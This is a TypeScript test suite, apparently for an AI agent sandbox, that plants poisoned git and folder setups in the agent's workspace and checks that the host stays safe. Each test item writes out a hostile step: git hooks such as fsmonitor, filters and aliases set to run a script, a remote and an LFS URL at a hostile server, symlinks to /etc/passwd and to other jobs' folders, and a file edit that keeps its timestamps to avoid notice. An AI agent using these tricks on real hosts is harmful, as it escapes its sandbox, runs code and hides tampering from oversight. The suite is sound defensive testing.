// Poisoned trees, second part about git: the agent turns its folders and its git into something else, or hopes for what the
// host's git does once it is gone. Judged by the same canaries.
import { afterAll, beforeAll, describe, test } from 'vitest';
import { type Attack, INNOCENT, openPoisonedPlace, type PoisonedPlace } from '../support/poisoned-place.ts';

const HARMLESS = { pushed: [INNOCENT] };

const ATTACKS: readonly Attack[] = [
  {
    name: 'settings that include others, always and for this folder',
    plant: ({ sh, script, workspace }) =>
      sh(`printf '[core]\\n\\tfsmonitor = ${script}\\n\\talternateRefsCommand = ${script}\\n' > ../tmp/more
          git config include.path '${workspace.tmp}/more'
          git config 'includeIf.gitdir:/.path' '${workspace.tmp}/more'
          git config 'includeIf.hasconfig:remote.*.url:**.path' '${workspace.tmp}/more'`),
    outcome: HARMLESS,
  },
  {
    name: 'settings of a work tree beside the others',
    plant: ({ sh, script, workspace }) =>
      sh(`git config extensions.worktreeConfig true
          printf '[core]\\n\\tfsmonitor = ${script}\\n\\tbare = false\\n\\tworktree = /\\n' > ${workspace.agentGitDir}/config.worktree`),
    outcome: HARMLESS,
  },
  {
    name: 'a remote that promises the missing objects',
    plant: ({ sh, evilUrl, script }) =>
      sh(`git config remote.origin.url '${evilUrl}/acme/shop.git' && git config remote.origin.promisor true
          git config remote.origin.partialclonefilter blob:none && git config extensions.partialClone origin
          git config remote.origin.uploadpack '${script}' && git config remote.origin.vcs ext
          git config protocol.ext.allow always && git config alias.status '!${script}'`),
    outcome: HARMLESS,
  },
  {
    name: "a git dir whose shared part is the host's mirror",
    plant: ({ sh, workspace }) =>
      sh(`echo '${workspace.gitDir}/../..' > ${workspace.agentGitDir}/commondir
          echo '${workspace.gitDir}' > ${workspace.agentGitDir}/gitdir`),
    outcome: HARMLESS,
  },
  {
    name: "a git dir that is a link to the host's mirror",
    plant: ({ sh, workspace }) =>
      sh(
        `rm -rf ${workspace.agentGitDir} && ln -s "$(realpath ${workspace.gitDir}/../..)" ${workspace.agentGitDir}`,
      ),
    outcome: HARMLESS,
  },
  {
    name: ".git as a link to the host's own view",
    plant: ({ sh, workspace }) => sh(`rm .git && ln -s '${workspace.gitDir}' .git`),
    outcome: HARMLESS,
  },
  {
    name: '.git as a file that names itself',
    plant: ({ sh }) => sh('echo "gitdir: .git" > .git'),
    outcome: HARMLESS,
  },
  {
    name: 'a temp folder that is a link to another job',
    plant: ({ sh, workspace }) => sh(`rm -rf ../tmp && ln -s '${workspace.dir}/../J-0' ../tmp`),
    outcome: HARMLESS,
  },
  {
    name: 'a home that is a link to another job',
    plant: ({ sh, workspace }) => sh(`rm -rf ../home && ln -s '${workspace.dir}/../J-0/home' ../home`),
    outcome: HARMLESS,
  },
  {
    name: 'attributes hidden in a macro of a folder below',
    plant: async ({ put, sh, script }) => {
      await put(
        '.gitattributes',
        '[attr]innocent filter=bad diff=bad merge=bad\n*.md innocent export-subst\n',
      );
      await sh(`git config filter.bad.process '${script}' && git config filter.bad.clean '${script}'`);
    },
    outcome: { pushed: ['.gitattributes', INNOCENT] },
  },
  {
    name: 'attributes and ignored files through links to the host',
    plant: ({ sh }) =>
      sh('ln -sf /etc/passwd .gitattributes && ln -sf ../../../../../etc/hostname .gitignore'),
    outcome: { refused: ['.gitattributes: link_leaves_tree', '.gitignore: link_leaves_tree'] },
  },
  {
    name: 'a sparse tree, so that the rest counts as deleted',
    plant: ({ sh, workspace }) =>
      sh(`git config core.sparseCheckout true && mkdir -p ${workspace.agentGitDir}/info
          echo '/nothing' > ${workspace.agentGitDir}/info/sparse-checkout
          git update-index --skip-worktree src/price.js && echo hidden > src/price.js`),
    outcome: { pushed: [INNOCENT, 'src/price.js'] },
  },
  {
    name: 'an edit that keeps size and time of the file, so that nobody looks',
    plant: ({ sh }) =>
      sh(
        'touch -r src/price.js ../tmp/then && tr a-z b-za < src/price.js > ../tmp/new && cat ../tmp/new > src/price.js && touch -r ../tmp/then src/price.js',
      ),
    outcome: { pushed: [INNOCENT, 'src/price.js'] },
  },
  {
    name: 'a place for large files at a hostile server',
    plant: ({ put, evilUrl }) => put('.lfsconfig', `[lfs]\n\turl = ${evilUrl}/lfs\n\tfetchinclude = *\n`),
    outcome: { pushed: ['.lfsconfig', INNOCENT] },
  },
];

describe("the agent's folders", () => {
  let place: PoisonedPlace;
  beforeAll(async () => {
    place = await openPoisonedPlace();
  });
  afterAll(() => place.close());

  test.each(ATTACKS)('$name', (attack) => place.suffer(attack));
});
